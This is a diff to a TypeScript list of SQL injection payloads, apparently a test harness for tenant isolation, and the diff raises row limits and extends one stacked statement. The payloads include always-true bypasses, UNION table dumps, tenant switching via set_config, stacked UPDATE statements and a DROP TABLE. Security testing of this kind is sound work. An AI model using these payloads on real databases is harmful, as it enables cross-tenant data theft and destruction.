@@ -12,14 +12,14 @@ export interface Payload {
 export const MAX_PAYLOAD = 1_000
 
 export const PAYLOADS: readonly Payload[] = [
-  { name: 'always true', text: `x' or true limit 20 --` },
+  { name: 'always true', text: `x' or true limit 100 --` },
   {
     name: 'union with the whole table',
-    text: `x' union all select number, status, origin, destination, tenant_id from {table} limit 60 --`,
+    text: `x' union all select number, status, origin, destination, tenant_id from {table} limit 100 --`,
   },
   {
     name: 'become another tenant',
-    text: `x' and false union all select t.number, t.status, t.origin, t.destination, t.tenant_id from (select set_config({switch}) as done offset 0) s cross join lateral (select * from {table} where s.done is not null limit 20) t --`,
+    text: `x' and false union all select t.number, t.status, t.origin, t.destination, t.tenant_id from (select set_config({switch}) as done offset 0) s cross join lateral (select * from {table} where s.done is not null limit 100) t --`,
   },
   {
     name: 'become another tenant inside XML',
@@ -33,7 +33,7 @@ export const PAYLOADS: readonly Payload[] = [
     name: 'list the tenants',
     text: `x' and false union all select slug, name, state, null, id from rowhouse.tenant --`,
   },
-  { name: 'a second statement', text: `x'; update {table} set {update} --` },
+  { name: 'a second statement', text: `x'; select set_config({switch}) is null; update {table} set {update} --` },
   { name: 'drop the table', text: `x'; drop table {table} --` },
 ]
 
